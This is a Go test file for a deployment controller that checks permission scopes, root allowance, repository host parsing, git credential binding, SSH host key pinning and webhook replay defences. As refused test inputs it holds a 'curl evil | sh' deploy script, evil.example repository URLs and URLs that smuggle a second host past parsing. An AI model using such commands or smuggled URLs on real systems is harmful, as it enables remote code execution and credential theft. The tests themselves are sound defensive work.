package deploys

import (
	"context"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/berthhq/berth/controller/internal/auth"
	"github.com/berthhq/berth/controller/internal/store"
)

func ptr[T any](v T) *T { return &v }

// A write-scoped caller cannot create an app, set its environment or
// webhook secret, or change anything that decides what code runs, as whom
// or where; it can change the harmless settings. Deploy can do the rest.
func TestWriteScopeCannotDecideWhatRuns(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := setup(t)
	e.app(t, "shop")
	write, deploy := e.as(store.ScopeWrite), e.as(store.ScopeDeploy)

	_, err := e.svc.CreateApp(ctx, write, Peer{}, CreateAppParams{Server: "web-1", AppSettings: store.AppSettings{Name: "x", RepositoryURL: "https://h/x.git"}})
	if !errors.Is(err, auth.ErrForbidden) {
		t.Errorf("write creates an app: %v", err)
	}
	if _, err := e.svc.SetAppEnv(ctx, write, Peer{}, "shop", "", map[string]string{"A": "b"}, nil); !errors.Is(err, auth.ErrForbidden) {
		t.Errorf("write sets env: %v", err)
	}
	if _, _, err := e.svc.SetWebhookSecret(ctx, write, Peer{}, "shop", ""); !errors.Is(err, auth.ErrForbidden) {
		t.Errorf("write sets the webhook secret: %v", err)
	}
	sp := []string{"storage"}
	for what, p := range map[string]UpdateAppParams{
		"repository":   {RepositoryURL: ptr("https://evil.example/x.git")},
		"branch":       {Branch: ptr("evil")},
		"user":         {RunAsUser: ptr("deploy")},
		"path":         {DeployPath: ptr("/etc")},
		"script":       {DeployScript: ptr("curl evil | sh")},
		"health cmd":   {HealthCheckCommand: ptr("id")},
		"health url":   {HealthCheckURL: ptr("http://127.0.0.1/")},
		"reload":       {ReloadCommand: ptr("id")},
		"shared paths": {SharedPaths: &sp},
	} {
		p.App = "shop"
		if _, err := e.svc.UpdateApp(ctx, write, Peer{}, p); !errors.Is(err, auth.ErrForbidden) {
			t.Errorf("write changes %s: %v", what, err)
		}
	}
	a, err := e.svc.UpdateApp(ctx, write, Peer{}, UpdateAppParams{App: "shop", ReleasesToKeep: ptr(3), TimeoutSeconds: ptr(600), HealthCheckTimeoutSeconds: ptr(10)})
	if err != nil || a.ReleasesToKeep != 3 || a.TimeoutSeconds != 600 || a.HealthCheckTimeoutSeconds != 10 {
		t.Fatalf("write changes harmless settings: %+v %v", a, err)
	}
	// A harmless change carried with a dangerous one is still refused.
	if _, err := e.svc.UpdateApp(ctx, write, Peer{}, UpdateAppParams{App: "shop", ReleasesToKeep: ptr(4), DeployScript: ptr("id")}); !errors.Is(err, auth.ErrForbidden) {
		t.Errorf("write changes the script beside keep: %v", err)
	}
	a, err = e.svc.UpdateApp(ctx, deploy, Peer{}, UpdateAppParams{App: "shop", DeployScript: ptr("make"), Branch: ptr("release")})
	if err != nil || a.DeployScript != "make" || a.Branch != "release" {
		t.Fatalf("deploy changes the script: %+v %v", a, err)
	}
	if _, err := e.svc.CreateApp(ctx, deploy, Peer{}, CreateAppParams{Server: "web-1", AppSettings: store.AppSettings{Name: "blog", RepositoryURL: "https://h/x.git"}}); err != nil {
		t.Errorf("deploy creates an app: %v", err)
	}
	if _, err := e.svc.SetAppEnv(ctx, deploy, Peer{}, "shop", "", map[string]string{"A": "b"}, nil); err != nil {
		t.Errorf("deploy sets env: %v", err)
	}
}

// Root needs the server's allowance, which only an admin grants; an empty
// user is the unprivileged default; withdrawing the allowance makes the
// next deploy (and a queued one at dispatch) fail with a clear message.
func TestRootNeedsServerAllowance(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := setup(t)
	mk := func(name, user string) (store.App, error) {
		return e.svc.CreateApp(ctx, e.admin, Peer{}, CreateAppParams{Server: "web-1",
			AppSettings: store.AppSettings{Name: name, RepositoryURL: "https://h/x.git", RunAsUser: user}})
	}
	for _, u := range []string{"root", "0"} {
		if _, err := mk("r"+u, u); !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "berth server allow-root web-1") {
			t.Errorf("user %q without the allowance: %v", u, err)
		}
	}
	a, err := mk("plain", "")
	if err != nil || a.RunAsUser != store.DefaultAppRunAsUser {
		t.Fatalf("empty user: %q %v", a.RunAsUser, err)
	}
	if _, err := e.svc.UpdateApp(ctx, e.admin, Peer{}, UpdateAppParams{App: "plain", RunAsUser: ptr("root")}); !errors.Is(err, ErrRefused) {
		t.Errorf("update to root without the allowance: %v", err)
	}
	if _, err := e.svc.SetServerAllowRoot(ctx, e.as(store.ScopeDeploy), Peer{}, "web-1", true); !errors.Is(err, auth.ErrForbidden) {
		t.Fatalf("deploy scope grants root: %v", err)
	}
	srv, err := e.svc.SetServerAllowRoot(ctx, e.admin, Peer{}, "web-1", true)
	if err != nil || !srv.AllowRoot {
		t.Fatalf("admin grants root: %+v %v", srv, err)
	}
	ra, err := mk("rootapp", "0")
	if err != nil || ra.RunAsUser != "root" {
		t.Fatalf("root app with the allowance: %+v %v", ra, err)
	}
	q, err := e.svc.Deploy(ctx, e.admin, Peer{}, DeployParams{App: "rootapp"})
	if err != nil {
		t.Fatal(err)
	}
	claimed, err := e.st.ClaimQueuedDeployments(ctx, []store.ID{e.srv.ID}, 10)
	if err != nil || len(claimed) != 1 {
		t.Fatalf("claim: %v %v", claimed, err)
	}
	js, err := e.svc.jobStart(ctx, ra, claimed[0])
	if err != nil || !js.GetAllowRoot() || js.GetRunAsUser() != "root" {
		t.Fatalf("job start with the allowance: %v %v", js, err)
	}

	// Withdrawn: a new deploy is refused, the dispatched one fails at
	// dispatch without a job being built.
	if _, err := e.svc.SetServerAllowRoot(ctx, e.admin, Peer{}, "web-1", false); err != nil {
		t.Fatal(err)
	}
	if _, err := e.svc.Deploy(ctx, e.admin, Peer{}, DeployParams{App: "rootapp"}); !errors.Is(err, ErrRefused) {
		t.Errorf("deploy after the allowance was withdrawn: %v", err)
	}
	if js, err := e.svc.jobStart(ctx, ra, claimed[0]); !errors.Is(err, ErrRefused) || js != nil {
		t.Fatalf("job start after the allowance was withdrawn: %v %v", js, err)
	}
	e.svc.sendTo(ctx, ra, claimed[0])
	d, err := e.st.Deployment(ctx, q.Deployment.ID)
	if err != nil || d.Status != store.DeploymentFailed || d.FailureReason == nil || !strings.Contains(*d.FailureReason, "does not allow") {
		t.Fatalf("dispatch after the allowance was withdrawn: %+v %v", d, err)
	}
	acts, err := e.st.ActivityLog(ctx, store.ActivityFilter{Action: "server.root_denied"})
	if err != nil || len(acts) != 1 {
		t.Errorf("withdrawal audited: %v %v", acts, err)
	}
}

func TestParseRepoHost(t *testing.T) {
	t.Parallel()
	good := map[string]repoLocation{
		"https://GitHub.com/acme/shop.git":          {Host: "github.com"},
		"https://bot@gitlab.example.com:8443/a.git": {Host: "gitlab.example.com", Port: "8443"},
		"ssh://git@github.com/acme/shop.git":        {Host: "github.com", SSH: true},
		"ssh://root@127.0.0.1:2222/srv/app.git":     {Host: "127.0.0.1", Port: "2222", SSH: true},
		"git@GitHub.com:acme/shop.git":              {Host: "github.com", SSH: true},
		"github.com:acme/shop.git":                  {Host: "github.com", SSH: true},
		"ssh://git@[::1]:22/x.git":                  {Host: "::1", Port: "22", SSH: true},
		"https://xn--bcher-kva.example/x.git":       {Host: "xn--bcher-kva.example"},
	}
	for raw, want := range good {
		got, err := parseRepoHost(raw)
		if err != nil || got != want {
			t.Errorf("%s: %+v %v, want %+v", raw, got, err, want)
		}
	}
	for _, raw := range []string{
		"/srv/git/app.git", "./app.git", "file:///srv/app.git", "https://bücher.example/x.git", "git@bücher.example:x.git",
		"https:///x.git", "https://exa_mple.com/x.git", "https://example.com:99999/x.git", "ftp://example.com/x.git",
		"https://example.com:/x.git", "https://-bad.example/x.git",
		// git would dial evil.example: the fragment is part of ssh's host.
		"ssh://github.com#@evil.example/x.git", "https://github.com/x.git?y", "ssh://git@github.com\\@evil.example/x",
	} {
		if loc, err := parseRepoHost(raw); !errors.Is(err, ErrInvalid) {
			t.Errorf("%s: %+v %v, want an error", raw, loc, err)
		}
	}
}

// Credentials: bound to hosts (given, or the first app's), attached only
// by admins or users they are shared with, refused before dispatch for
// another host, and over ssh only to a host whose key is pinned.
func TestCredentialBindingAndSharing(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := setup(t)
	deploy := e.as(store.ScopeDeploy)
	https, err := e.svc.AddGitCredential(ctx, e.admin, Peer{}, AddGitCredentialParams{Name: "gh", Kind: store.GitCredentialHTTPS, Username: "bot", Token: "tok-never-shown"})
	if err != nil || len(https.AllowedHosts) != 0 {
		t.Fatalf("add: %+v %v", https, err)
	}
	mk := func(pr *auth.Principal, name, url, cred string) (store.App, error) {
		return e.svc.CreateApp(ctx, pr, Peer{}, CreateAppParams{Server: "web-1", Credential: cred,
			AppSettings: store.AppSettings{Name: name, RepositoryURL: url}})
	}
	// Not shared: a deploy-scoped (non-admin) caller cannot attach it.
	if _, err := mk(deploy, "a1", "https://GitHub.com/acme/a.git", "gh"); !errors.Is(err, auth.ErrForbidden) {
		t.Fatalf("attach an unshared credential: %v", err)
	}
	if c, _ := e.st.GitCredential(ctx, https.ID); len(c.AllowedHosts) != 0 {
		t.Fatalf("a refused attach bound the credential: %v", c.AllowedHosts)
	}
	if _, err := e.svc.ShareGitCredential(ctx, deploy, Peer{}, "gh", "ops@example.com", true); !errors.Is(err, auth.ErrForbidden) {
		t.Fatalf("non-admin shares: %v", err)
	}
	if _, err := e.svc.ShareGitCredential(ctx, e.admin, Peer{}, "gh", "ops@example.com", true); err != nil {
		t.Fatal(err)
	}
	// Shared: attached, and the first app binds it to its host.
	a1, err := mk(deploy, "a1", "https://GitHub.com/acme/a.git", "gh")
	if err != nil {
		t.Fatalf("attach a shared credential: %v", err)
	}
	if c, _ := e.st.GitCredential(ctx, https.ID); len(c.AllowedHosts) != 1 || c.AllowedHosts[0] != "github.com" {
		t.Fatalf("bound to %v", c.AllowedHosts)
	}
	if _, err := mk(e.admin, "a2", "https://evil.example/a.git", "gh"); !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "evil.example") || !strings.Contains(err.Error(), "gh") {
		t.Fatalf("another host: %v", err)
	}
	if _, err := e.svc.UpdateApp(ctx, e.admin, Peer{}, UpdateAppParams{App: "a1", RepositoryURL: ptr("https://evil.example/a.git")}); !errors.Is(err, ErrRefused) {
		t.Fatalf("update to another host: %v", err)
	}
	// A queued deployment whose credential was re-bound meanwhile is
	// refused at dispatch: no job (and no secret) is built.
	q, err := e.svc.Deploy(ctx, e.admin, Peer{}, DeployParams{App: "a1"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.st.SetGitCredentialAllowedHosts(ctx, https.ID, []string{"gitlab.com"}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.svc.Deploy(ctx, e.admin, Peer{}, DeployParams{App: "a1"}); !errors.Is(err, ErrRefused) {
		t.Fatalf("deploy to an unbound host: %v", err)
	}
	claimed, err := e.st.ClaimQueuedDeployments(ctx, []store.ID{e.srv.ID}, 10)
	if err != nil || len(claimed) != 1 {
		t.Fatalf("claim: %v %v", claimed, err)
	}
	if js, err := e.svc.jobStart(ctx, a1, claimed[0]); !errors.Is(err, ErrRefused) || js != nil {
		t.Fatalf("job start for another host: %v %v", js, err)
	}
	e.svc.sendTo(ctx, a1, claimed[0])
	if d, _ := e.st.Deployment(ctx, q.Deployment.ID); d.Status != store.DeploymentFailed || !strings.Contains(*d.FailureReason, "github.com") {
		t.Fatalf("dispatch: %+v", d)
	}
	// Unshared again: no longer attachable.
	if _, err := e.svc.ShareGitCredential(ctx, e.admin, Peer{}, "gh", "ops@example.com", false); err != nil {
		t.Fatal(err)
	}
	if _, err := mk(deploy, "a3", "https://gitlab.com/a.git", "gh"); !errors.Is(err, auth.ErrForbidden) {
		t.Fatalf("attach after unshare: %v", err)
	}
	// Re-pointing an app that has the credential at another repository is
	// a new use of it: refused to a user it is not shared with.
	if _, err := e.st.SetGitCredentialAllowedHosts(ctx, https.ID, []string{"github.com"}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.svc.UpdateApp(ctx, deploy, Peer{}, UpdateAppParams{App: "a1", RepositoryURL: ptr("https://github.com/acme/private.git")}); !errors.Is(err, auth.ErrForbidden) {
		t.Fatalf("re-point a credential's app without the credential shared: %v", err)
	}
	// An https token never goes over plain http, except on loopback.
	if _, err := e.svc.UpdateApp(ctx, e.admin, Peer{}, UpdateAppParams{App: "a1", RepositoryURL: ptr("http://github.com/acme/a.git")}); !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "https://") {
		t.Fatalf("https credential over http: %v", err)
	}

	// Given hosts at creation; ssh without a pinned key is refused before
	// dispatch, with the command to run; a pinned key lets it through and
	// goes to the agent with the hosts.
	sshc, err := e.svc.AddGitCredential(ctx, e.admin, Peer{}, AddGitCredentialParams{Name: "key", Kind: store.GitCredentialSSH, AllowedHosts: []string{"Git.Example.com"}})
	if err != nil || len(sshc.AllowedHosts) != 1 || sshc.AllowedHosts[0] != "git.example.com" {
		t.Fatalf("ssh credential with hosts: %+v %v", sshc, err)
	}
	s1, err := mk(e.admin, "s1", "git@git.example.com:acme/s.git", "key")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.svc.Deploy(ctx, e.admin, Peer{}, DeployParams{App: "s1"}); !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "berth git-credential scan-host key git.example.com") {
		t.Fatalf("ssh deploy without a pinned key: %v", err)
	}
	pub, _, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	hk, _ := ssh.NewPublicKey(pub)
	line := "git.example.com " + strings.TrimSpace(string(ssh.MarshalAuthorizedKey(hk))) + "\n"
	if _, err := e.st.SetGitCredentialKnownHosts(ctx, sshc.ID, line); err != nil {
		t.Fatal(err)
	}
	q, err = e.svc.Deploy(ctx, e.admin, Peer{}, DeployParams{App: "s1"})
	if err != nil {
		t.Fatalf("ssh deploy with a pinned key: %v", err)
	}
	d, _ := e.st.Deployment(ctx, q.Deployment.ID)
	js, err := e.svc.jobStart(ctx, s1, d)
	if err != nil || js.GetCredential().GetKnownHosts() != line || strings.Join(js.GetCredential().GetAllowedHosts(), ",") != "git.example.com" {
		t.Fatalf("job start: %v %v", js.GetCredential().GetAllowedHosts(), err)
	}
	// known_hosts given at creation: plain lines only.
	if _, err := e.svc.AddGitCredential(ctx, e.admin, Peer{}, AddGitCredentialParams{Name: "k2", Kind: store.GitCredentialSSH, KnownHosts: "*.example.com " + line[len("git.example.com "):]}); !errors.Is(err, ErrInvalid) {
		t.Fatalf("pattern in known_hosts: %v", err)
	}
	k3, err := e.svc.AddGitCredential(ctx, e.admin, Peer{}, AddGitCredentialParams{Name: "k3", Kind: store.GitCredentialSSH, KnownHosts: "[Git.Example.com]:2222 " + line[len("git.example.com "):]})
	if err != nil || !hostPinned(k3.KnownHosts, "[git.example.com]:2222") || hostPinned(k3.KnownHosts, "git.example.com") {
		t.Fatalf("known_hosts given: %q %v", k3.KnownHosts, err)
	}
}

// sshHost serves SSH handshakes on loopback with the given host keys and
// lets nobody in.
func sshHost(t *testing.T, keys ...ssh.Signer) string {
	t.Helper()
	cfg := &ssh.ServerConfig{PublicKeyCallback: func(ssh.ConnMetadata, ssh.PublicKey) (*ssh.Permissions, error) {
		return nil, errors.New("no")
	}}
	for _, k := range keys {
		cfg.AddHostKey(k)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_, _, _, _ = ssh.NewServerConn(c, cfg)
			}()
		}
	}()
	return l.Addr().String()
}

// scan-host shows a real SSH server's keys; trust-host stores a key only
// when a fresh scan offers the fingerprint typed, and a wrong one stores
// nothing.
func TestScanAndTrustHost(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := setup(t)
	_, edPriv, _ := ed25519.GenerateKey(rand.Reader)
	ecPriv, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	ed, _ := ssh.NewSignerFromKey(edPriv)
	ec, _ := ssh.NewSignerFromKey(ecPriv)
	addr := sshHost(t, ed, ec)
	if _, err := e.svc.AddGitCredential(ctx, e.admin, Peer{}, AddGitCredentialParams{Name: "key", Kind: store.GitCredentialSSH}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.svc.ScanGitHost(ctx, e.as(store.ScopeDeploy), "key", addr); !errors.Is(err, auth.ErrForbidden) {
		t.Fatalf("deploy scope scans: %v", err)
	}
	keys, err := e.svc.ScanGitHost(ctx, e.admin, "key", addr)
	if err != nil || len(keys) != 2 {
		t.Fatalf("scan: %+v %v", keys, err)
	}
	fps := map[string]string{}
	for _, k := range keys {
		fps[k.Type] = k.Fingerprint
	}
	if fps[ssh.KeyAlgoED25519] != ssh.FingerprintSHA256(ed.PublicKey()) || fps[ssh.KeyAlgoECDSA256] != ssh.FingerprintSHA256(ec.PublicKey()) {
		t.Fatalf("scan fingerprints: %v", fps)
	}
	_, other, _ := ed25519.GenerateKey(rand.Reader)
	otherKey, _ := ssh.NewSignerFromKey(other)
	wrong := ssh.FingerprintSHA256(otherKey.PublicKey())
	if _, _, err := e.svc.TrustGitHost(ctx, e.admin, Peer{}, "key", addr, wrong); !errors.Is(err, ErrRefused) {
		t.Fatalf("trust with a wrong fingerprint: %v", err)
	}
	if c, _ := e.st.GitCredentialByName(ctx, "key"); c.KnownHosts != "" {
		t.Fatalf("a wrong fingerprint stored %q", c.KnownHosts)
	}
	if _, _, err := e.svc.TrustGitHost(ctx, e.as(store.ScopeDeploy), Peer{}, "key", addr, fps[ssh.KeyAlgoED25519]); !errors.Is(err, auth.ErrForbidden) {
		t.Fatalf("deploy scope trusts: %v", err)
	}
	c, k, err := e.svc.TrustGitHost(ctx, e.admin, Peer{}, "key", addr, fps[ssh.KeyAlgoED25519])
	if err != nil || k.Type != ssh.KeyAlgoED25519 {
		t.Fatalf("trust: %+v %v", k, err)
	}
	host, port, _ := net.SplitHostPort(addr)
	loc := repoLocation{Host: host, Port: port, SSH: true}
	if err := checkPinned(c, loc); err != nil {
		t.Fatalf("pinned after trust: %v (%q)", err, c.KnownHosts)
	}
	// Trusting again keeps one line.
	if c, _, err = e.svc.TrustGitHost(ctx, e.admin, Peer{}, "key", addr, fps[ssh.KeyAlgoED25519]); err != nil || strings.Count(c.KnownHosts, "\n") != 1 {
		t.Fatalf("trust again: %q %v", c.KnownHosts, err)
	}
	if _, err := e.svc.ScanGitHost(ctx, e.admin, "key", "bad host:22"); !errors.Is(err, ErrInvalid) {
		t.Fatalf("bad address: %v", err)
	}
}

// A signed push body replayed under a new delivery id deploys once; a
// delivery is refused once the user who set the secret may not deploy.
func TestWebhookReplayAndOwner(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := setup(t)
	a := e.app(t, "shop")
	const secret = "a-webhook-secret-for-tests"
	if _, _, err := e.svc.SetWebhookSecret(ctx, e.admin, Peer{}, "shop", secret); err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.Handle("POST /hooks/apps/{app}/{provider}", e.svc.WebhookHandler())
	body := `{"ref":"refs/heads/main","after":"` + strings.Repeat("ab", 20) + `"}`
	deliver := func(provider, delivery string) *httptest.ResponseRecorder {
		r := httptest.NewRequest(http.MethodPost, "/hooks/apps/"+a.ID.String()+"/"+provider, strings.NewReader(body))
		if provider == "github" {
			m := hmac.New(sha256.New, []byte(secret))
			m.Write([]byte(body))
			r.Header.Set("X-Hub-Signature-256", "sha256="+hex.EncodeToString(m.Sum(nil)))
			r.Header.Set("X-GitHub-Event", "push")
			r.Header.Set("X-GitHub-Delivery", delivery)
		} else {
			r.Header.Set("X-Gitlab-Token", secret)
			r.Header.Set("X-Gitlab-Event", "Push Hook")
			r.Header.Set("X-Gitlab-Event-UUID", delivery)
		}
		w := httptest.NewRecorder()
		mux.ServeHTTP(w, r)
		return w
	}
	deployments := func() int {
		list, err := e.st.ListDeployments(ctx, store.DeploymentFilter{AppID: &a.ID, Limit: 100})
		if err != nil {
			t.Fatal(err)
		}
		return len(list)
	}
	for _, p := range []string{"github", "gitlab"} {
		if w := deliver(p, p+"-1"); w.Code != http.StatusAccepted || !strings.Contains(w.Body.String(), "deployment_id") {
			t.Fatalf("%s first delivery: %d %s", p, w.Code, w.Body)
		}
		if w := deliver(p, p+"-2"); w.Code != http.StatusOK || !strings.Contains(w.Body.String(), "already processed") {
			t.Fatalf("%s replayed body, new id: %d %s", p, w.Code, w.Body)
		}
	}
	if n := deployments(); n != 2 {
		t.Fatalf("deployments = %d, want one per provider", n)
	}
	// Days later the captured body (an old commit by then) still does not
	// deploy: a replay has no expiry.
	e.now = e.now.Add(30 * 24 * time.Hour)
	if w := deliver("github", "github-late"); w.Code != http.StatusOK || !strings.Contains(w.Body.String(), "already processed") {
		t.Fatalf("body replayed 30 days later: %d %s", w.Code, w.Body)
	}
	e.now = time.Now()
	if n := deployments(); n != 2 {
		t.Fatalf("deployments = %d after a late replay, want 2", n)
	}

	// The secret's setter demoted: refused, with a security event.
	if _, err := e.st.SetUserRole(ctx, e.admin.UserID, store.RoleViewer); err != nil {
		t.Fatal(err)
	}
	body = `{"ref":"refs/heads/main","after":"` + strings.Repeat("cd", 20) + `"}`
	if w := deliver("github", "gh-3"); w.Code != http.StatusForbidden {
		t.Fatalf("delivery after the setter was demoted: %d %s", w.Code, w.Body)
	}
	if n, _ := e.st.CountSecurityEvents(ctx, store.SecurityEventFilter{Type: "webhook.owner_not_allowed"}); n != 1 {
		t.Fatalf("security events = %d", n)
	}
	if _, err := e.st.SetUserRole(ctx, e.admin.UserID, store.RoleOperator); err != nil {
		t.Fatal(err)
	}
	if w := deliver("github", "gh-4"); w.Code != http.StatusAccepted {
		t.Fatalf("delivery with the setter an operator: %d %s", w.Code, w.Body)
	}
	if _, err := e.st.SetUserStatus(ctx, e.admin.UserID, store.UserDisabled); err != nil {
		t.Fatal(err)
	}
	body = `{"ref":"refs/heads/main","after":"` + strings.Repeat("ef", 20) + `"}`
	if w := deliver("gitlab", "gl-5"); w.Code != http.StatusForbidden {
		t.Fatalf("delivery after the setter was disabled: %d %s", w.Code, w.Body)
	}
	if n := deployments(); n != 3 {
		t.Fatalf("deployments = %d, want 3", n)
	}
}
